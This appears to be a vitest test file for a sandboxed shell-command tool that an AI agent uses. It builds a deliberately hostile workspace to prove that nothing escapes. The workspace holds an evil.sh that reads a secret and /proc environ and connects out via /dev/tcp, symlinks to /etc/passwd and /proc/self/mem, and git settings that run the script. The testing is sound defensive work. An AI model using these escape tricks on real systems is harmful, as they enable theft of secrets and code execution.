import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { once } from 'node:events'
import { chmod, lstat, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { ToolContext } from '#features/agent/tool.ts'
import { toolContext } from '#features/agent/tool-context.fixture.ts'
import { openSandbox } from '#ports/sandbox/index.ts'
import { abuses } from './abuses.fixture.ts'
import { readGrammar, systemCommand } from './index.ts'

const canary = 'canary-b71e90'
const atOnce = 8

let folder: string
let outside: string
let dataDir: string
let listener: Server
let connections = 0
let tool: ReturnType<typeof systemCommand>

beforeAll(async () => {
  process.env.JARVIS_CANARY = canary
  folder = await mkdtemp(join(tmpdir(), 'system-'))
  outside = join(folder, 'outside')
  dataDir = join(folder, 'data')
  await mkdir(outside)
  await writeFile(join(outside, 'secret'), canary)
  listener = createServer((socket) => (connections++, socket.destroy())).listen(0, '127.0.0.1')
  await once(listener, 'listening')
  // Bombs run until they are stopped.
  const sandbox = await openSandbox({ dataDir, commandMs: 1500 })
  tool = systemCommand(sandbox, readGrammar({ isInstalled: sandbox.has, secretFolders: [dataDir] }))
  await writeFile(join(dataDir, 'secret'), canary)
})
afterAll(async () => {
  listener.close()
  await rm(folder, { recursive: true, force: true })
})

const context = (userId: string): ToolContext => ({ ...toolContext, caller: { userId, role: 'admin', plan: 'enterprise' } })

/** As the agent does it: the schema first, then the call. A refusal is null. */
async function call(userId: string, args: { argv: string[]; input?: string }): Promise<string | null> {
  const parsed = tool.args.safeParse(args)
  if (!parsed.success) return null
  return await tool.execute(parsed.data, context(userId)).then(
    ({ content }) => content,
    () => null,
  )
}

async function workspaceOf(userId: string): Promise<string> {
  const before = new Set(await readdir(join(dataDir, 'workspaces')))
  await call(userId, { argv: ['ls'] })
  const made = (await readdir(join(dataDir, 'workspaces'))).find((name) => !before.has(name))
  return join(dataDir, 'workspaces', made!)
}

/** A workspace that is out to escape: links that lead out, and a repository whose settings run a program on every occasion that git knows. */
async function hostileWorkspace(userId: string): Promise<string> {
  const workspace = await workspaceOf(userId)
  const port = (listener.address() as { port: number }).port
  const files = {
    'data.txt': 'one\ntwo\n',
    'data.json': '{"a":1}',
    'long.txt': `${'a'.repeat(5000)}!`,
    'evil.sh': `#!/bin/bash\ncat ${outside}/secret /proc/*/environ\necho x > /dev/tcp/127.0.0.1/${port}\necho pwned > /workspace/pwned\n`,
    'evil.jq': 'env',
    'evil.magic': '0 string a evil',
    names: `${outside}/secret`,
    names0: `${outside}/secret\0`,
    '-rf': 'a name',
    '--help': 'a name',
    '.gitattributes': '*.evil diff=evil filter=evil\n',
    'doc.evil': 'one',
  }
  for (const [name, content] of Object.entries(files)) await writeFile(join(workspace, name), content)
  await chmod(join(workspace, 'evil.sh'), 0o755)
  await mkdir(join(workspace, 'evil'))
  const links = { outside: '/etc/passwd', root: '/', up: outside, loop: 'loop', environ: '/proc/self/environ', mem: '/proc/self/mem' }
  for (const [name, target] of Object.entries(links)) await symlink(target, join(workspace, name))
  execFileSync('mkfifo', [join(workspace, 'pipe')])

  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=x', '-c', 'user.email=x@example.org', '-c', 'safe.directory=*', ...args], {
      cwd: workspace,
      stdio: 'ignore',
    })
  git('init', '-b', 'main')
  git('add', 'data.txt', 'doc.evil', '.gitattributes')
  git('commit', '-m', 'first')
  await writeFile(join(workspace, 'doc.evil'), 'two')
  const program = '/workspace/evil.sh'
  const settings = [
    'core.fsmonitor',
    'core.pager',
    'core.editor',
    'core.sshCommand',
    'core.askPass',
    'diff.external',
    'diff.evil.textconv',
    'diff.evil.command',
    'filter.evil.clean',
    'filter.evil.smudge',
    'gpg.program',
    'pager.log',
    'pager.status',
    'pager.branch',
    'sequence.editor',
  ]
  for (const setting of settings) git('config', setting, program)
  for (const alias of ['evil', 'status', 'log']) git('config', `alias.${alias}`, `!${program}`)
  git('config', 'core.hooksPath', '/workspace/hooks')
  git('config', 'log.showSignature', 'true')
  if (process.getuid?.() === 0) execFileSync('chown', ['-Rh', '65534:65534', workspace])
  return workspace
}

async function fingerprint(root: string): Promise<string> {
  const hash = createHash('sha256')
  // By entries: by name alone, Node would follow the link to /.
  const entries = (await readdir(root, { recursive: true, withFileTypes: true })).map((entry) => join(entry.parentPath, entry.name))
  for (const path of entries.toSorted()) {
    const stats = await lstat(path)
    hash.update(`${path} ${stats.mode} ${stats.size}`)
    if (stats.isFile()) hash.update(await readFile(path))
  }
  return hash.digest('hex')
}

test('at least 250 abuses of commands and options: nothing outside is read, changed or reached', async () => {
  const port = (listener.address() as { port: number }).port
  const attempts = abuses({ secret: `${outside}/secret`, port })
  const distinct = new Set(attempts.map((argv) => JSON.stringify(argv)))
  expect(distinct.size).toBeGreaterThanOrEqual(250)

  const workspace = await hostileWorkspace('mallory')
  const [before, host] = [await fingerprint(workspace), await fingerprint(outside)]
  const passwd = await readFile('/etc/passwd', 'utf8')
  const escapes: string[] = []
  let refused = 0
  const queue = [...attempts]
  async function worker() {
    for (let argv = queue.shift(); argv; argv = queue.shift()) {
      const content = await call('mallory', { argv, input: 'pwned' })
      if (content === null) refused++
      else if (content.includes(canary) || content.includes('root:x:0:0') || content.includes('DATABASE_URL')) escapes.push(JSON.stringify(argv))
    }
  }
  await Promise.all(Array.from({ length: atOnce }, worker))

  expect(escapes).toEqual([])
  expect(connections).toBe(0)
  expect(await fingerprint(outside)).toBe(host)
  expect(await readFile('/etc/passwd', 'utf8')).toBe(passwd)
  expect(await fingerprint(workspace)).toBe(before)
  // Some run, harmlessly: were all refused, the sandbox would have shown nothing.
  expect(refused).toBeGreaterThan(250)
  expect(attempts.length - refused).toBeGreaterThan(50)
}, 120_000)

describe('what it is for works', () => {
  test('text goes in by the input and by files, and comes out', async () => {
    expect(await call('ada', { argv: ['sort', '-rn'], input: '1\n10\n9\n' })).toBe('Exit code 0.\n\n10\n9\n1\n')
    expect(await call('ada', { argv: ['mkdir', '-p', 'notes/old'] })).toContain('Exit code 0.')
    expect(await call('ada', { argv: ['tee', 'notes/a.txt'], input: 'alpha\nbeta\n' })).toContain('alpha')
    expect(await call('ada', { argv: ['cp', 'notes/a.txt', 'notes/old/b.txt'] })).toContain('Exit code 0.')
    expect(await call('ada', { argv: ['grep', '-rn', 'beta', '.'] })).toContain('./notes/a.txt:2:beta')
    expect(await call('ada', { argv: ['find', '.', '-name', '*.txt', '-type', 'f'] })).toContain('./notes/old/b.txt')
    expect(await call('ada', { argv: ['jq', '-r', '.a[1]'], input: '{"a":[1,"two"]}' })).toContain('two')
    expect(await call('ada', { argv: ['rm', 'notes/a.txt'] })).toContain('Exit code 0.')
    expect(await call('ada', { argv: ['ls', 'notes'] })).toBe('Exit code 0.\n\nold\n')
  })

  test('disk, memory, load and processes are told', async () => {
    expect(await call('ada', { argv: ['df', '-h'] })).toMatch(/Use%[\s\S]*\/workspace/)
    expect(await call('ada', { argv: ['free', '-m'] })).toContain('Mem:')
    expect(await call('ada', { argv: ['uptime'] })).toContain('load average')
    const processes = await call('ada', { argv: ['ps', '--sort=memory'] })
    expect(processes).toMatch(new RegExp(`^ *${process.pid}  `, 'm'))
    expect(processes).not.toContain(process.argv[1]!)
  })

  test('git tells status, history and differences', async () => {
    const workspace = await hostileWorkspace('grace')
    expect(await call('grace', { argv: ['git', 'log', '--oneline'] })).toMatch(/Exit code 0\.\n\n[0-9a-f]{7} first/)
    expect(await call('grace', { argv: ['git', 'status', '--short', '--', 'data.txt'] })).toContain('Exit code 0.')
    expect(await call('grace', { argv: ['git', 'show', '--stat', 'HEAD'] })).toContain('doc.evil')
    expect(await call('grace', { argv: ['git', 'diff', '--name-only'] })).toContain('doc.evil')
    expect(await readdir(workspace)).not.toContain('pwned')
  })

  test('a command that fails says so, and bytes that are no text do no harm', async () => {
    expect(await call('ada', { argv: ['cat', 'missing'] })).toMatch(/^Exit code 1\.\n\ncat: .*No such file/)
    const binary = await call('ada', { argv: ['base64', '-d'], input: 'AAH/G1tIaQ==' })
    expect(binary).toBe('Exit code 0.\n\n\u{FFFD}\u{FFFD}\u{FFFD}\u{FFFD}[Hi')
  })
})

test('a person is asked about every call, and the arguments that are shown are the argv that runs', async () => {
  for (const argv of [['ls', '-la'], ['ps'], ['git', 'status'], ['rm', 'a']]) {
    expect(await tool.asks!(tool.args.parse({ argv }), context('ada'))).toMatch(/^Runs on the server/)
  }
  const written = { argv: ['rm', '--', './a'] }
  expect(tool.args.parse({ argv: ['rm', 'a'] })).toEqual(written)
  expect(tool.args.parse(written)).toEqual(written)
  expect(await tool.asks!(written, context('ada'))).toBe(
    'Runs on the server, in your workspace and without network, and may change your files there.',
  )
})

test('it is for administrators and the enterprise role, on the enterprise plan', () => {
  expect(tool).toMatchObject({ roles: ['admin', 'enterprise'], plans: ['enterprise'], risk: 'act', untrusted: true })
})
